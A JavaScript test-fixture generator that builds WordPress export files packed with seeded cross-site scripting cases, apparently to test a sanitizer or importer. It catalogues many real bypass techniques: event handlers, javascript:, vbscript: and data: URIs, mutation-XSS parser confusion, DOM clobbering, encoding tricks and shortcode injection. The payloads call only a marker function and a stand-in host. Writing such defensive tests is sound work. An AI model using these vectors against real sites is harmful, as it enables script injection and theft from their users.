// Texts that somebody wrote to harm a reader: every way to run a script, to ask a stranger for
// something or to lead away, in every place of a text, in every spelling, as a WordPress export.
// The same seed gives the same cases. Each case knows its number: what it runs calls `struck(N)`,
// what it asks for is on a host of its number, and its words before it are `c00042c`.
import { deflateSync } from 'node:zlib';

/** Numbers that look like chance and are not. */
function chance(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
  return { one: (list) => list[Math.floor(next() * list.length)], below: (count) => Math.floor(next() * count) };
}

const run = (n) => `struck(${n})`;
const stranger = (n) => `//c${n}.stranger.example/`;
export const wordOf = (n) => `c${String(n).padStart(5, '0')}c`;

// -- What harms ------------------------------------------------------------------------------

const EVENTS = [
  'load', 'error', 'click', 'mouseover', 'mouseenter', 'mousemove', 'focus', 'focusin', 'blur', 'toggle', 'beforetoggle',
  'animationstart', 'animationend', 'transitionrun', 'scroll', 'scrollend', 'wheel', 'pointerenter', 'pointerdown', 'touchstart',
  'keydown', 'input', 'change', 'submit', 'reset', 'invalid', 'select', 'cut', 'copy', 'paste', 'drag', 'drop', 'contextmenu',
  'auxclick', 'dblclick', 'resize', 'pageshow', 'hashchange', 'message', 'begin', 'end', 'repeat', 'start', 'finish', 'bounce',
  'loadstart', 'loadeddata', 'canplay', 'play', 'ended', 'cuechange', 'slotchange', 'fullscreenchange', 'securitypolicyviolation',
  'contentvisibilityautostatechange', 'unhandledrejection', 'webkitanimationstart', 'formdata', 'close', 'cancel',
];
const BEARERS = [
  'img src=x', 'img src', 'image href=x', 'svg', 'body', 'html', 'video src=x', 'video', 'audio src=x', 'details open', 'details',
  'input autofocus', 'input type=image src=x', 'select autofocus', 'textarea autofocus', 'button autofocus', 'a href=# autofocus tabindex=1',
  'b', 'p', 'div tabindex=1', 'span contenteditable autofocus', 'iframe', 'iframe src=x', 'object data=x', 'embed src=x', 'frame', 'frameset',
  'marquee', 'math', 'form', 'table', 'td', 'caption', 'blockquote', 'pre', 'source src=x', 'track src=x', 'link rel=stylesheet href=x',
  'meta', 'style', 'script src=x', 'dialog open', 'menu', 'h2', 'li', 'em', 'del', 'figure', 'figcaption', 'bgsound', 'keygen', 'isindex',
  'applet', 'layer', 'xss', 'custom-element', 'x:y', 'a', 'abbr', 'noscript', 'template', 'slot', 'portal', 'fencedframe', 'search', 'selectedcontent',
];
const handler = (event, bearer) => (n) => `<${bearer} on${event}="${run(n)}" style="animation:a 1s">`;

const SCHEMES = [
  (n) => `javascript:${run(n)}`,
  (n) => `javascript://c${n}.stranger.example/%0A${run(n)}`,
  (n) => `vbscript:${run(n)}`,
  (n) => `data:text/html,<script>top.${run(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>top.${run(n)}</script>`).toString('base64')}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${run(n)}'/>`,
  (n) => `data:text/javascript,${run(n)}`,
  (n) => `data:text/css,*{background:url(${stranger(n)})}`,
  (n) => `feed:javascript:${run(n)}`,
  (n) => `view-source:javascript:${run(n)}`,
  (n) => `blob:https:${stranger(n)}${n}`,
  (n) => `filesystem:https:${stranger(n)}temporary/`,
  (n) => `https:${stranger(n)}`,
  (n) => stranger(n),
  (n) => `/\\c${n}.stranger.example/`,
  (n) => `\\\\c${n}.stranger.example/`,
  (n) => `/${stranger(n)}`,
  (n) => `https:c${n}.stranger.example/`,
  (n) => `/theirs/${n}`,
];
const CARRIERS = [
  (u, n) => `<a href="${u}">là ${n}</a>`,
  (u) => `<a href="#" ping="${u}">là</a>`,
  (u) => `<a xlink:href="${u}">là</a>`,
  (u) => `<area href="${u}" shape=default>`,
  (u, n) => `<img usemap="#m${n}" src=x><map name="m${n}"><area href="${u}"></map>`,
  (u) => `<svg><a xlink:href="${u}"><text y=9>là</text></a></svg>`,
  (u) => `<svg><a><animate attributeName=href values="${u}"/><text y=9>là</text></a></svg>`,
  (u) => `<svg><a><set attributeName="href" to="${u}"/><text y=9>là</text></a></svg>`,
  (u) => `<svg><use href="${u}"/></svg>`,
  (u) => `<svg><image href="${u}"/></svg>`,
  (u) => `<svg><script href="${u}"/></svg>`,
  (u) => `<svg><feImage href="${u}"/></svg>`,
  (u) => `<math href="${u}"><mi>là</mi></math>`,
  (u) => `<math><maction actiontype="statusline" xlink:href="${u}">là</maction></math>`,
  (u) => `<form action="${u}"><button>là</button></form>`,
  (u) => `<form><button formaction="${u}">là</button></form>`,
  (u) => `<form><input type=submit formaction="${u}"></form>`,
  (u, n) => `<form id="f${n}"></form><button form="f${n}" formaction="${u}">là</button>`,
  (u) => `<isindex action="${u}" type=image>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<iframe srcdoc="<a href='${u}'>là</a><script>top.location='${u}'</script>"></iframe>`,
  (u) => `<frameset><frame src="${u}"></frameset>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<object><param name=movie value="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<applet code="${u}" archive="${u}"></applet>`,
  (u) => `<base href="${u}">`,
  (u) => `<link rel=stylesheet href="${u}">`,
  (u) => `<link rel="preload prefetch modulepreload" as=script href="${u}">`,
  (u) => `<link rel="icon" href="${u}"><link rel=manifest href="${u}"><link rel=import href="${u}">`,
  (u) => `<link rel="dns-prefetch preconnect prerender" href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<meta http-equiv="set-cookie" content="a=${u}">`,
  (u) => `<img src="${u}">`,
  (u) => `<img src=x srcset="${u} 1x, ${u} 2x" sizes=100vw>`,
  (u) => `<img data-src="${u}" data-lazy-src="${u}" lowsrc="${u}" dynsrc="${u}" longdesc="${u}">`,
  (u) => `<picture><source srcset="${u}"><img src=x></picture>`,
  (u) => `<video poster="${u}" src="${u}"></video>`,
  (u) => `<video><source src="${u}"><track default src="${u}"></video>`,
  (u) => `<audio autoplay src="${u}"></audio>`,
  (u) => `<input type=image src="${u}">`,
  (u) => `<body background="${u}">`,
  (u) => `<table background="${u}"><tr><td background="${u}">là</table>`,
  (u) => `<bgsound src="${u}">`,
  (u) => `<blockquote cite="${u}">là</blockquote><q cite="${u}">là</q><del cite="${u}">là</del>`,
  (u) => `<blockquote class="twitter-tweet" data-href="${u}" cite="${u}"><a href="${u}">là</a></blockquote>`,
  (u) => `<script src="${u}"></script>`,
  (u) => `<script type=module>import "${u}"</script>`,
  (u) => `<script type=importmap>{"imports":{"a":"${u}"}}</script>`,
  (u) => `<style>@import "${u}";</style>`,
  (u) => `<style>*{background:url("${u}");list-style:url(${u})}</style>`,
  (u) => `<style>@font-face{font-family:a;src:url("${u}")}p{font-family:a}</style>`,
  (u) => `<p style="background:url('${u}');cursor:url(${u}),auto">là</p>`,
  (u) => `<p style="behavior:url(${u});-moz-binding:url(${u})">là</p>`,
  (u) => `<portal src="${u}"></portal><fencedframe src="${u}"></fencedframe>`,
  (u) => `<html manifest="${u}">`,
  (u) => `<?xml-stylesheet href="${u}"?>`,
  (u) => `<!DOCTYPE a [<!ENTITY b SYSTEM "${u}">]>`,
  (u) => `[embed]${u}[/embed]`,
  (u) => `[audio src="${u}"]`,
  (u) => `[video mp4="${u}" poster="${u}"]`,
  (u) => `[playlist ids="${u}"]`,
  (u) => `[youtube ${u}]`,
  (u, n) => `[caption id="attachment_900" caption="là ${n}"]<a href="${u}"><img src="${u}"></a>[/caption]`,
  (u) => `<div class="wp-block-file"><a href="${u}">là</a><a href="${u}" download>b</a></div>`,
  (u) => `<figure class="wp-block-embed"><div>${u}</div><figcaption><a href="${u}">là</a></figcaption></figure>`,
  (u) => `<figure class="wp-block-image"><a href="${u}"><img src="${u}" class="wp-image-900"></a></figure>`,
  (u) => `<!-- wp:embed {"url":"${u}","html":"<iframe src='${u}'></iframe>"} /-->`,
  (u) => `<!-- wp:image {"id":900,"href":"${u}"} --><figure><img src="${u}"></figure><!-- /wp:image -->`,
];

const SCRIPTS = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script/src=data:,${run(n)}></script>`,
  (n) => `<script\n>${run(n)}</script\t>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><script>${run(n).replace('(', '&#40;')}</script></svg>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`,
  (n) => `<math><mi><script>${run(n)}</script></mi></math>`,
  (n) => `<img src="x\`<script>${run(n)}</script>"\` \`>`,
  (n) => `<iframe srcdoc="<script>top.${run(n)}</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;img src=x onerror=top.${run(n)}&gt;"></iframe>`,
  (n) => `<template shadowrootmode=open><script>${run(n)}</script><img src=x onerror=${run(n)}></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<style><img title="</style><img src=x onerror=${run(n)}>">`,
  (n) => `<svg><style><img title="</style><img src=x onerror=${run(n)}>">`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=${run(n)}>">`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(n)}&gt;">`,
  (n) => `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run(n)} src=1>">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run(n)}>`,
  (n) => `<svg><title><style><a title="</style></title></svg><img src=x onerror=${run(n)}>">`,
  (n) => `<svg><desc><svg><foreignobject><p><style><b title="</style><img src=x onerror=${run(n)}>"></svg>`,
  (n) => `<table><td><svg><desc><td></desc></svg><img src=x onerror=${run(n)}>`,
  (n) => `<table><caption><svg><title><table><tr></title></svg><a title="</table><img src=x onerror=${run(n)}>">`,
  (n) => `<select><template><img src=x onerror=${run(n)}></template></select>`,
  (n) => `<select><style></select><img src=x onerror=${run(n)}></style>`,
  (n) => `<select><iframe></select><img src=x onerror=${run(n)}></iframe>`,
  (n) => `<xmp><p title="</xmp><svg/onload=${run(n)}>">`,
  (n) => `<noembed><img title="</noembed><img src onerror=${run(n)}>"></noembed>`,
  (n) => `<noframes><style></noframes><img src=x onerror=${run(n)}></style>`,
  (n) => `<textarea><a title="</textarea><img src=x onerror=${run(n)}>">`,
  (n) => `<title><b title="</title><img src=x onerror=${run(n)}>">`,
  (n) => `<iframe><a title="</iframe><img src=x onerror=${run(n)}>">`,
  (n) => `<!--><img src=x onerror=${run(n)}>-->`,
  (n) => `<!---><img src=x onerror=${run(n)}>-->`,
  (n) => `<!--a--!><img src=x onerror=${run(n)}>-->`,
  (n) => `<!-- <!-- --> <img src=x onerror=${run(n)}> -->`,
  (n) => `<![CDATA[><img src=x onerror=${run(n)}>]]>`,
  (n) => `<svg><![CDATA[</svg><img src=x onerror=${run(n)}>]]></svg>`,
  (n) => `<?a><img src=x onerror=${run(n)}>?>`,
  (n) => `</ a="><img src=x onerror=${run(n)}>">`,
  (n) => `<%a title="%><img src=x onerror=${run(n)}>">`,
  (n) => `<a title='"><img src=x onerror=${run(n)}>'>là</a>`,
  (n) => `<abbr title="&quot;><img src=x onerror=${run(n)}>">là</abbr>`,
  (n) => `<abbr title="</abbr><script>${run(n)}</script>">là</abbr>`,
  (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
  (n) => `&amp;lt;script&amp;gt;${run(n)}&amp;lt;/script&amp;gt;`,
  (n) => `&#60;script&#62;${run(n)}&#60;/script&#62;`,
  (n) => `%3Cscript%3E${run(n)}%3C/script%3E`,
  (n) => `\\u003cscript\\u003e${run(n)}\\u003c/script\\u003e`,
  (n) => `＜script＞${run(n)}＜/script＞`,
  (n) => `<\u017fcript>${run(n)}</\u017fcript>`,
  (n) => `<lin\u212a rel=stylesheet href=${stranger(n)}>`,
  (n) => `<scr\u200bipt>${run(n)}</scr\u200bipt><scr\ufeffipt>${run(n)}</script>`,
  (n) => `\u202e<img src=x onerror=${run(n)}>\u202c`,
  (n) => `<img src=x onerror\u00a0=${run(n)}><img\u3000src=x\u3000onerror=${run(n)}>`,
  (n) => `\u0001<img\u0001src=x\u0002onerror=${run(n)}\u001f>\u007f\u0085\ufffe\uffff\u{1ffff}`,
  (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
  (n) => `<<script>${run(n)}//<</script>`,
  (n) => `<img src=x:x onerror=${run(n)}//`,
  (n) => `<img """><script>${run(n)}</script>">`,
  (n) => `<a href="https://là.example" title="a" onclick='${run(n)}' onclick="b">là</a>`,
  (n) => `{{constructor.constructor('${run(n)}')()}} \${${run(n)}} {% raw %}<b onclick=${run(n)}>`,
  (n) => `[caption caption='"><img src=x onerror=${run(n)}>']<img src="https://old.example/wp-content/uploads/2016/12/port.png">[/caption]`,
  (n) => `[caption id='"><script>${run(n)}</script>']<img src=x>[/caption]`,
  (n) => `[gallery ids="'><svg/onload=${run(n)}>"][gallery onload="${run(n)}" style=animation:a]`,
  (n) => `[embed width='"><script>${run(n)}</script>']https://youtu.be/"><script>${run(n)}</script>[/embed]`,
  (n) => `[video src="https://old.example/a.mp4" onerror="${run(n)}" poster='x" onerror="${run(n)}']`,
  (n) => `[unknown a="<script>${run(n)}</script>"]<script>${run(n)}</script>[/unknown]`,
  (n) => `[[caption]<img src=x onerror=${run(n)}>[/caption]]`,
  (n) => `https://youtu.be/"onmouseover="${run(n)}`,
  (n) => `https://www.youtube.com/watch?v=<script>${run(n)}</script>`,
  (n) => `<iframe src="https://www.youtube.com/embed/&quot;><script>${run(n)}</script>" title="&quot;><script>${run(n)}</script>"></iframe>`,
  (n) => `<!-- wp:html {"content":"--\\u003e<script>${run(n)}</script>"} --><script>${run(n)}</script><!-- /wp:html -->`,
  (n) => `<!-- wp:file {"href":"javascript:${run(n)}","onclick":"${run(n)}"} /--><!-- wp:latest-posts {"a":"><img src=x onerror=${run(n)}>"} /-->`,
  (n) => `<span lang='fr" onmouseover="${run(n)}'>là</span><p lang="fr&quot; onclick=&quot;${run(n)}">là</p>`,
  (n) => `<ol start='1" onclick="${run(n)}'><li>là<ul><li>là</ul></ol>`,
  (n) => `<td colspan='2" onclick="${run(n)}'>là</td>`,
];
const NAMES = [
  'body', 'head', 'documentElement', 'location', 'cookie', 'getElementById', 'querySelector', 'defaultView', 'forms', 'struck',
  'main', 'share', 'wire', 'follow', 'related', 'next', 'attributes', 'parentNode', 'currentScript', 'fetch', 'navigator', 'trustedTypes',
];
const clobbers = NAMES.flatMap((name) => [
  (n) => `<a id="${name}" name="${name}" href="https://a.example/${n}">là</a>`,
  (n) => `<form id="${name}"><input name="${name}" value="${n}"><output name="attributes">là</output></form>`,
  (n) => `<img id="${name}" name="${name}" src=x data-n=${n}><iframe name="${name}"></iframe>`,
  (n) => `<h2 id="${name}" class="also keys archived" tabindex=1 accesskey=a data-n=${n}>là</h2>`,
]);

/** Every way to do harm, once. */
function vectors() {
  const handled = EVENTS.flatMap((event, at) => [0, 1, 2, 3].map((step) => handler(event, BEARERS[(at * 7 + step * 17) % BEARERS.length])));
  const borne = BEARERS.map((bearer, at) => handler(EVENTS[(at * 5) % EVENTS.length], bearer));
  const carried = CARRIERS.flatMap((carrier, at) =>
    SCHEMES.map((scheme, place) => (n) => carrier(scheme(n), n)).filter((_, place) => place < 2 || (place + at) % 3 === 0),
  );
  return [...SCRIPTS, ...clobbers, ...handled, ...borne, ...carried];
}

// -- How it is spelled -----------------------------------------------------------------------

const inQuotes = (spell) => (markup) => markup.replace(/="([^"]*)"/g, (_, value) => `="${spell(value)}"`);
const inScheme = (between) => inQuotes((value) => value.replace(/^(javascript|vbscript|data)/i, (word) => [...word].join(between)));
const SPELLINGS = [
  (markup) => markup,
  (markup) => markup.replace(/<(\/?)([a-z]+)/gi, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  (markup) => markup.replace(/\b(on[a-z]+|javascript|script|href|src)\b/gi, (word) => [...word].map((c, at) => (at % 2 ? c.toUpperCase() : c)).join('')),
  inQuotes((value) => value.replace(/[^<>&]/g, (c) => `&#${c.codePointAt(0)};`)),
  inQuotes((value) => value.replace(/[a-z]/gi, (c) => `&#x${c.codePointAt(0).toString(16)}`)),
  inQuotes((value) => value.replace(/[:(]/g, (c) => `&#00000${c.codePointAt(0)};`)),
  inQuotes((value) => value.replace(':', '&colon;').replace('(', '&lpar;').replace(')', '&rpar;')),
  inScheme('\t'),
  inScheme('&Tab;&NewLine;'),
  inScheme('\n'),
  inQuotes((value) => `&#1; \u00a0${value}`.replace('\u00a0', value.startsWith('j') ? '' : ' ')),
  inQuotes((value) => `\u001f${value}`),
  (markup) => markup.replace(/="([^"]*)"/g, "='$1'"),
  (markup) => markup.replace(/="([^"'\s>]*)"/g, '=$1'),
  (markup) => markup.replace(/="([^"`]*)"/g, '=`$1`'),
  (markup) => markup.replace(/<([a-z]+) /gi, '<$1/'),
  (markup) => markup.replace(/<([a-z]+) /gi, '<$1\n\f\r\t'),
  (markup) => markup.replace(/ (on[a-z]+|href|src)=/gi, ' $1 \n= '),
  (markup) => markup.replace(/ (on[a-z]+|href|src)=/gi, ' $1=a $1='),
  (markup) => markup.replace(/>/g, ' a=">" b>'),
  (markup) => markup.replace(/&/g, '&amp;').replace(/</g, '&lt;'),
  (markup) => encodeURIComponent(markup),
  (markup) => markup.replace(/(.{7})/g, '$1\u00ad'),
  (markup) => `\ufeff${markup}\u2028`,
];

// -- Where it stands -------------------------------------------------------------------------

const PLACES = [
  (it) => `<p>${it}</p>`,
  (it) => it,
  (it) => `\n\n${it}\n\n`,
  (it) => `<!-- wp:paragraph -->\n<p>${it}</p>\n<!-- /wp:paragraph -->`,
  (it) => `<!-- wp:html -->${it}<!-- /wp:html -->`,
  (it) => `<!-- wp:columns {"className":"${it.replaceAll('"', '\\"').replaceAll('--', '\\u002d\\u002d')}"} --><div>là</div><!-- /wp:columns -->`,
  (it) => `<h2>${it}</h2>`,
  (it) => `<blockquote><p>là</p><cite>${it}</cite></blockquote>`,
  (it) => `<ul><li>là</li><li>${it}</li></ul>`,
  (it) => `<ul><li>là<ol><li>${it}</li></ol></li></ul>`,
  (it) => `<table><tr><th>a</th><th>b</th></tr><tr><td>${it}</td><td>c</td></tr></table>`,
  (it) => `<table><tr><td colspan=2>${it}</td></tr><tr><td>b</td><td>c</td></tr></table>`,
  (it) => `<table>${it}<tr>${it}<td>a</td></tr></table>`,
  (it) => `<table><caption>${it}</caption><colgroup>${it}</colgroup><tr><td>a</table>`,
  (it) => `<pre>${it}</pre>`,
  (it) => `<pre><code>${it}</code></pre>`,
  (it) => `<dl><dt>${it}</dt><dd>${it}</dd></dl>`,
  (it) => `<p><del>là ${it}</del></p>`,
  (it) => `<figure><img src="https://old.example/wp-content/uploads/2016/12/port.png"><figcaption>${it}</figcaption></figure>`,
  (it) => `<figure class="wp-block-table"><table><tr><td rowspan=2>${it}</td></tr></table><figcaption>${it}</figcaption></figure>`,
  (it) => `[caption id="attachment_900"]<img src="https://old.example/wp-content/uploads/2016/12/port.png"> ${it}[/caption]`,
  (it) => `<details><summary>${it}</summary><p>${it}</p></details>`,
  (it) => `<p><strong>${it} ?</strong></p>`,
  (it) => `<svg>${it}</svg>`,
  (it) => `<svg><foreignObject>${it}</foreignObject></svg>`,
  (it) => `<svg><desc>${it}</desc><title>${it}</title></svg>`,
  (it) => `<svg><style>${it}</style></svg>`,
  (it) => `<math><mtext>${it}</mtext></math>`,
  (it) => `<math><annotation-xml encoding="text/html">${it}</annotation-xml></math>`,
  (it) => `<math><mi><table><mglyph><style>${it}</style></mglyph></table></mi></math>`,
  (it) => `<noscript>${it}</noscript>`,
  (it) => `<template>${it}</template>`,
  (it) => `<select><option>${it}</option></select>`,
  (it) => `<textarea>${it}</textarea>`,
  (it) => `<style>${it}</style>`,
  (it) => `<xmp>${it}</xmp>`,
  (it) => `<iframe>${it}</iframe>`,
  (it) => `<noembed>${it}</noembed>`,
  (it) => `<object>${it}</object>`,
  (it) => `<!-- ${it} -->`,
  (it) => `<a href="https://a.example/" title='${it}'>là</a>`,
  (it) => `<abbr title="${it}">là</abbr><dl><dd><abbr title="${it.replaceAll('"', '&quot;')}">là</abbr></dl>`,
  (it) => `<img src="https://old.example/wp-content/uploads/2016/12/port.png" alt="${it.replaceAll('"', '&quot;')}">`,
  (it) => `<img src="https://lost.example/${it.replaceAll('"', '%22')}.png" alt='${it}'>`,
  (it) => `<img class="wp-smiley" alt='${it}' src=x>`,
  (it) => `<a href="https://a.example/"><a href="#">${it}</a></a>`,
  (it) => `<p><b><i><p>${it}</b></i>`,
  (it) => `<div><p><table><a>${it}</table></p></div>`,
  (it) => `<a><table><tr><td><a>${it}</table>`,
];

/** Ends whatever a case left open, so that the next one is not hidden in it. */
const RAW = ['script', 'style', 'textarea', 'title', 'xmp', 'iframe', 'noembed', 'noframes', 'template', 'select', 'noscript', 'svg', 'math'];
const ENDS = [...RAW, ...new Set(BEARERS.map((bearer) => bearer.split(' ')[0]))].map((name) => `</${name}>`).join('');
const MOP = `\n<i a="'">--></i>]]>${ENDS}</table>${ENDS}[/caption][/embed]\n\n`;

/**
 * The cases of a seed: every vector plainly, then mixtures, `count` in all.
 * @returns {{n: number, markup: string}[]}
 */
export function cases(seed, count) {
  const { one } = chance(seed);
  const all = vectors();
  return Array.from({ length: count }, (_, n) => {
    if (n < all.length) return { n, markup: all[n](n) };
    return { n, markup: one(PLACES)(one(SPELLINGS)(one(all)(n))) };
  });
}

// -- The export ------------------------------------------------------------------------------

/** What XML cannot hold is for other tests: U+0000 is refused with the whole file. */
const cdata = (text) => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;
const attribute = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const meta = (key, value) => `<wp:postmeta><wp:meta_key>${cdata(key)}</wp:meta_key><wp:meta_value>${cdata(value)}</wp:meta_value></wp:postmeta>`;

/** How many authors, categories and tags bear a case in their name. */
const NAMED = 24;

/**
 * An export of these cases, many to a text; titles, summaries, names, captions and fields bear
 * cases too, which `fields` lists; `pages` are the slugs of texts that are no articles.
 */
export function exported(list, each) {
  const body = (some) => some.map(({ n, markup }) => `<p>${wordOf(n)}</p>${markup}${MOP}`).join('');
  const fields = [];
  const pages = [];
  let next = list.length;
  const { one } = chance(list.length);
  const short = vectors();
  const field = (where) => {
    const n = next++;
    const markup = one(SPELLINGS)(one(short)(n));
    fields.push({ n, where, markup });
    return `${wordOf(n)} ${markup}`;
  };
  const item = (id, kind, title, content, more) =>
    `<item><title>${cdata(title)}</title><link>https://old.example/2016/12/15/text-${id}/</link>` +
    `<dc:creator>${cdata(`author-${id % NAMED}`)}</dc:creator><guid isPermaLink="false">https://old.example/?p=${id}</guid>` +
    `<content:encoded>${cdata(content)}</content:encoded><wp:post_id>${id}</wp:post_id>` +
    `<wp:post_date>2016-12-15 11:30:00</wp:post_date><wp:post_date_gmt>2016-12-15 11:30:00</wp:post_date_gmt>` +
    `<wp:post_name>text-${id}</wp:post_name><wp:status>${kind === 'attachment' ? 'inherit' : 'publish'}</wp:status>` +
    `<wp:post_type>${kind}</wp:post_type><wp:post_parent>0</wp:post_parent>${more}</item>\n`;
  const term = (domain, at, name) => `<category domain="${domain}" nicename="${domain}-${at}">${cdata(name)}</category>`;
  const numbers = [...Array(NAMED).keys()];
  const authors = numbers.map(() => field('author'));
  const categories = numbers.map(() => field('category'));
  const tags = numbers.map(() => field('tag'));
  const pieces = [
    '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" ' +
      'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" ' +
      'xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Old</title><link>https://old.example</link>' +
      '<language>fr-FR</language><wp:wxr_version>1.2</wp:wxr_version><wp:base_site_url>https://old.example</wp:base_site_url>' +
      '<wp:base_blog_url>https://old.example</wp:base_blog_url>\n',
    ...authors.map((name, at) => `<wp:author><wp:author_login>author-${at}</wp:author_login><wp:author_display_name>${cdata(name)}</wp:author_display_name></wp:author>\n`),
    ...categories.map((name, at) => `<wp:category><wp:category_nicename>category-${at}</wp:category_nicename><wp:cat_name>${cdata(name)}</wp:cat_name></wp:category>\n`),
    item(
      900,
      'attachment',
      field('title of a picture'),
      field('description of a picture'),
      `<excerpt:encoded>${cdata(field('caption'))}</excerpt:encoded><wp:attachment_url>https://old.example/wp-content/uploads/2016/12/port.png</wp:attachment_url>` +
        meta('_wp_attached_file', '2016/12/port.png') +
        meta('_wp_attachment_image_alt', field('alt')) +
        meta('_wp_attachment_metadata', `a:1:{s:6:"credit";s:9:"${attribute(field('credit'))}";}`),
    ),
  ];
  for (let from = 0, id = 1000; from < list.length; from += each, id += 1) {
    const at = id % NAMED;
    const kind = id % 40 === 0 ? 'page' : 'post';
    if (kind === 'page') pages.push(`text-${id}`);
    pieces.push(
      item(
        id,
        kind,
        field('title'),
        body(list.slice(from, from + each)),
        `<excerpt:encoded>${cdata(field('summary'))}</excerpt:encoded>` +
          term('category', at, categories[at]) +
          term('post_tag', (at * 5) % NAMED, tags[(at * 5) % NAMED]) +
          meta('_thumbnail_id', '900') +
          meta(`<img src=x onerror=${run(next)}>`, field('custom field')) +
          `<wp:comment><wp:comment_id>${id}</wp:comment_id><wp:comment_author>${cdata(field('comment'))}</wp:comment_author>` +
          `<wp:comment_content>${cdata(field('comment'))}</wp:comment_content><wp:comment_approved>1</wp:comment_approved></wp:comment>`,
      ),
    );
  }
  pieces.push('</channel></rss>\n');
  return { export: pieces.join(''), fields, pages };
}

/** An export of strings, each a paragraph; some are titles, summaries and names too. */
export function ofStrings(strings) {
  const TO_A_TEXT = 16;
  const held = strings.map((string) => string.replace(/[\0-\x08\x0b\x0c\x0e-\x1f]/g, ''));
  const escaped = held.map((string) => string.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'));
  const items = [];
  for (let from = 0, id = 1; from < strings.length; from += TO_A_TEXT, id += 1) {
    const some = escaped.slice(from, from + TO_A_TEXT);
    const [title, summary, name] = [0, 1, 2].map((at) => `${id} ${some[at] ?? ''}`);
    const body = some.map((string) => `<!-- wp:paragraph --><p>${string}</p><!-- /wp:paragraph -->`).join('');
    items.push(
      `<wp:author><wp:author_login>a${id}</wp:author_login><wp:author_display_name>${cdata(name)}</wp:author_display_name></wp:author>` +
        `<item><title>${cdata(title)}</title><link>https://old.example/2016/12/15/s${id}/</link><dc:creator>a${id}</dc:creator>` +
        `<content:encoded>${cdata(body)}</content:encoded><excerpt:encoded>${cdata(summary)}</excerpt:encoded><wp:post_id>${id}</wp:post_id>` +
        `<wp:post_date>2016-12-15 11:30:00</wp:post_date><wp:post_date_gmt>2016-12-15 11:30:00</wp:post_date_gmt><wp:post_name>s${id}</wp:post_name>` +
        `<wp:status>publish</wp:status><wp:post_type>post</wp:post_type><category domain="post_tag" nicename="t${id}">${cdata(name)}</category></item>`,
    );
  }
  return (
    '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" ' +
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" ' +
    'xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Old</title><link>https://old.example</link>' +
    `<wp:base_blog_url>https://old.example</wp:base_blog_url>${items.join('\n')}</channel></rss>\n`
  );
}

/** A picture: one color, as PNG. */
export function picture(width, height) {
  const chunk = (name, data) => {
    const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc(body), body.length + 4);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc(height * (1 + width * 3), 0x66);
  for (let row = 0; row < height; row += 1) rows[row * (1 + width * 3)] = 0;
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

function crc(bytes) {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}
